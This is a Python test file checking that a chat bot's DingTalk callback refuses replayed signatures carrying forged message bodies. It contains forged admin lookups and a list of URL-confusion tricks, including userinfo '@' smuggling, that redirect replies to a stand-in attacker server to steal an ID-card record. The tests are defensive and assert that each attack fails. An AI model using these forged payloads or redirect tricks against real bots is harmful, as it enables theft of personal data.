"""Issue 10, hole 1: DingTalk's callback `sign` covers only the timestamp, so the body can be forged.

Every attack runs against a bot serving its real callback on 127.0.0.1, answered at the
fake DingTalk (bench/support/fake_platforms.py), with an "attacker" server on loopback
that must never receive anything. Robot messages are built through the dingtalk-stream
SDK's ChatbotMessage (tests/channels/dingtalk_peer.py).
"""

from __future__ import annotations

import asyncio
import itertools
import json
import time
from datetime import timedelta
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from bench.support.dingtalk_peer import body, dingtalk_env, robot_message, signed_headers
from bot.app import OrgBot
from bot.cadres.demo import seed_demo
from bot.channels import dingtalk, signature_ledger
from bot.channels.base import DeliveryError
from bot.channels.models import CallbackSignature
from bot.channels.private_note import SENT_PRIVATELY
from bot.messages import Outgoing, Reply, Target
from bot.storage.models import AuditEntry
from tests.channels.conftest import settle
from tests.conftest import add_staff

ADMIN_STAFF_ID = "manager01"
ID_CARD_A1002 = "000000199009030022"
_last_ms = [0]


def fresh_headers() -> dict[str, str]:
    """A genuine pair no other request in this process has used (strictly increasing millisecond timestamps)."""
    _last_ms[0] = max(int(time.time() * 1000), _last_ms[0] + 1)
    return signed_headers(timestamp_ms=_last_ms[0])


async def people(bot: OrgBot) -> None:
    await seed_demo(bot)
    await add_staff(bot, "ding_admin", "钉钉管理员", role="admin", im=(("dingtalk", ADMIN_STAFF_ID),))
    await add_staff(bot, "ding_staff", "钉钉工作人员", role="staff", im=(("dingtalk", "zhangsan"),))


@pytest.fixture
async def ding(serve_channel, fake):
    bot, channel, client = await serve_channel(dingtalk, **dingtalk_env(fake.url))
    await people(bot)
    return bot, channel, client


async def audit_rows(bot: OrgBot, action_prefix: str) -> list[AuditEntry]:
    async with bot.db() as session:
        rows = await session.scalars(select(AuditEntry).where(AuditEntry.action.like(f"{action_prefix}%")))
        return list(rows)


async def test_a_captured_pair_replayed_with_a_forged_admin_lookup_is_refused(ding, fake, attacker):
    bot, _, client = ding
    captured = fresh_headers()
    genuine = robot_message(fake.url, "/帮助", "msgGenuine1", staff_id="zhangsan")
    assert (await client.post("/callback/dingtalk", data=body(genuine), headers=captured)).status == 200
    await settle(bot)
    assert len(fake.sent("dingtalk", "sendBySession")) == 1

    forged = robot_message(
        fake.url,
        "/干部 A1002",
        "msgForged1",
        staff_id=ADMIN_STAFF_ID,
        session_webhook=f"{attacker.url}/robot/sendBySession?session=stolen",
    )
    forged["senderNick"] = "管理员"
    resp = await client.post("/callback/dingtalk", data=body(forged), headers=captured)
    assert resp.status == 401
    assert "另一条消息" in (await resp.json())["error"]
    # The same pair and the genuine msgId, but another body, is not the platform's retry either.
    same_id = {**forged, "msgId": "msgGenuine1"}
    assert (await client.post("/callback/dingtalk", data=body(same_id), headers=captured)).status == 401
    # The platform's retry of the genuine message (same pair, same body) is acknowledged and not answered again.
    assert (await client.post("/callback/dingtalk", data=body(genuine), headers=captured)).status == 200
    await settle(bot)

    assert attacker.received == []
    assert ID_CARD_A1002 not in json.dumps([c.body for c in fake.calls], ensure_ascii=False)
    assert len(fake.sent("dingtalk", "sendBySession")) == 1
    assert await audit_rows(bot, "cadre.") == []
    (replay,) = await audit_rows(bot, "callback.replay")
    assert replay.outcome == "refused" and replay.subject == "A1002" and "/干部 A1002" in replay.query
    assert ADMIN_STAFF_ID in replay.detail and "127.0.0.1" in replay.detail


async def test_a_genuine_message_with_a_foreign_session_webhook_is_answered_through_the_openapi(ding, fake, attacker):
    bot, _, client = ding
    fake_host = fake.url.split("//", 1)[1]
    tricks = [
        f"{attacker.url}/robot/sendBySession?session=s1",
        f"{fake.url}/robot/send?access_token=attackers-own-robot",
        f"http://{fake_host}@{attacker.url.split('//', 1)[1]}/robot/sendBySession?session=s1",
        f"http://user:pw@{fake_host}/robot/sendBySession?session=s1",
        f"https://{fake_host}/robot/sendBySession?session=s1",
        "/robot/sendBySession?session=s1",
        "not a url at all",
    ]
    for i, url in enumerate(tricks):
        message = robot_message(fake.url, "/帮助", f"msgForeign{i}", session_webhook=url)
        assert (await client.post("/callback/dingtalk", data=body(message), headers=fresh_headers())).status == 200
    await settle(bot)
    assert attacker.received == []
    assert fake.sent("dingtalk", "sendBySession") == []
    assert fake.sent("dingtalk", "/robot/send") == []
    answers = fake.sent("dingtalk", "groupMessages/send")
    assert len(answers) == len(tricks)
    assert all(a.body["openConversationId"] == "cidGroup1==" for a in answers)
    assert all("可以帮您" in json.loads(a.body["msgParam"])["content"] for a in answers)


@pytest.mark.parametrize("group", [True, False], ids=["group", "private-chat"])
async def test_a_genuine_admin_lookup_reaches_only_the_admin_by_openapi_one_to_one(ding, fake, group):
    bot, _, client = ding
    message = robot_message(fake.url, "/干部 A1002", "msgAdmin1", staff_id=ADMIN_STAFF_ID, group=group)
    assert (await client.post("/callback/dingtalk", data=body(message), headers=fresh_headers())).status == 200
    await settle(bot)
    (one_to_one,) = fake.sent("dingtalk", "oToMessages/batchSend")
    assert one_to_one.body["userIds"] == [ADMIN_STAFF_ID]
    assert ID_CARD_A1002 in one_to_one.body["msgParam"]
    webhook = fake.sent("dingtalk", "sendBySession")
    assert all(ID_CARD_A1002 not in json.dumps(c.body, ensure_ascii=False) for c in webhook)
    assert fake.sent("dingtalk", "groupMessages/send") == []
    if group:  # exactly one note where the question was asked, @-ing the asker
        (note,) = webhook
        assert note.body["text"]["content"] == f"@{ADMIN_STAFF_ID} {SENT_PRIVATELY}"
    else:
        assert webhook == []
    (audit,) = await audit_rows(bot, "cadre.")
    assert audit.actor == "ding_admin" and audit.subject == "A1002"


async def test_without_openapi_credentials_the_record_is_withheld_not_sent_to_the_webhook(serve_channel, fake):
    env = dingtalk_env(fake.url, ORGBOT_DINGTALK_APP_KEY="", ORGBOT_DINGTALK_ROBOT_CODE="")
    bot, _, client = await serve_channel(dingtalk, **env)
    await people(bot)
    message = robot_message(fake.url, "/干部 A1002", "msgNoApi1", staff_id=ADMIN_STAFF_ID, group=False)
    assert (await client.post("/callback/dingtalk", data=body(message), headers=fresh_headers())).status == 200
    await settle(bot)
    (note,) = fake.sent("dingtalk")
    assert note.path == "/robot/sendBySession" and note.body["text"]["content"] == dingtalk.NO_PRIVATE_ROUTE
    assert ID_CARD_A1002 not in json.dumps([c.body for c in fake.calls], ensure_ascii=False)


async def test_one_pair_is_claimed_once_across_two_instances_racing(serve_channel, fake, attacker):
    env = dingtalk_env(fake.url)
    first = await serve_channel(dingtalk, **env)
    second = await serve_channel(dingtalk, **env)
    await people(first[0])
    pair = fresh_headers()

    async def submit(i: int) -> int:
        client = (first, second)[i % 2][2]
        forged = robot_message(
            fake.url, "/干部 A1002", f"msgRace{i}", staff_id=ADMIN_STAFF_ID, session_webhook=attacker.url
        )
        resp = await client.post("/callback/dingtalk", data=body(forged), headers=pair)
        return resp.status

    statuses = await asyncio.gather(*(submit(i) for i in range(12)))
    await settle(first[0])
    await settle(second[0])
    assert sorted(statuses) == [200] + [401] * 11
    assert attacker.received == []


async def test_used_pairs_are_kept_an_hour_then_purged(ding):
    bot, _, client = ding
    message = robot_message("http://x", "/帮助", "msgPurge1", at_bot=False)
    assert (await client.post("/callback/dingtalk", data=body(message), headers=fresh_headers())).status == 200
    now = bot.clock.now()
    async with bot.db() as session, session.begin():
        await signature_ledger.purge_expired(session, now + timedelta(minutes=59))
        assert len(list(await session.scalars(select(CallbackSignature)))) == 1
        await signature_ledger.purge_expired(session, now + timedelta(minutes=61))
        assert list(await session.scalars(select(CallbackSignature))) == []


# --- the rule as an invariant -------------------------------------------------------------

submissions = st.lists(st.tuples(st.integers(0, 3), st.integers(0, 3)), min_size=1, max_size=12)


async def test_each_pair_is_accepted_with_at_most_one_message(ding, fake):
    """For any sequence of (pair, msgId) submissions: a pair's first message owns it, all else is 401."""
    bot, _, client = ding
    loop = asyncio.get_running_loop()
    examples = itertools.count()

    async def run(sequence: list[tuple[int, int]]) -> None:
        n = next(examples)
        pairs = [fresh_headers() for _ in range(4)]
        messages: dict[int, dict[str, Any]] = {}
        owner: dict[int, int] = {}
        for pair, msg in sequence:
            data = messages.setdefault(msg, robot_message(fake.url, "/帮助", f"msgP{n}-{msg}", at_bot=False))
            resp = await client.post("/callback/dingtalk", data=body(data), headers=pairs[pair])
            expected = 200 if owner.setdefault(pair, msg) == msg else 401
            assert resp.status == expected, (sequence, pair, msg)

    @settings(
        max_examples=40,
        derandomize=True,
        deadline=None,
        database=None,
        suppress_health_check=[HealthCheck.too_slow],
    )
    @given(submissions)
    def prop(sequence: list[tuple[int, int]]) -> None:
        asyncio.run_coroutine_threadsafe(run(sequence), loop).result(timeout=60)

    await loop.run_in_executor(None, prop)
    await settle(bot)
    assert fake.sent("dingtalk") == []  # group messages not at the bot: nothing to answer


async def test_a_private_push_without_openapi_credentials_fails_loudly(serve_channel, fake):
    env = dingtalk_env(fake.url, ORGBOT_DINGTALK_APP_KEY="", ORGBOT_DINGTALK_ROBOT_CODE="")
    bot, _, _ = await serve_channel(dingtalk, **env)
    with pytest.raises(DeliveryError) as err:
        await bot.deliver(Outgoing(Target("dingtalk", user_id=ADMIN_STAFF_ID), Reply("身份证号…", private=True)))
    assert err.value.permanent and fake.calls == []
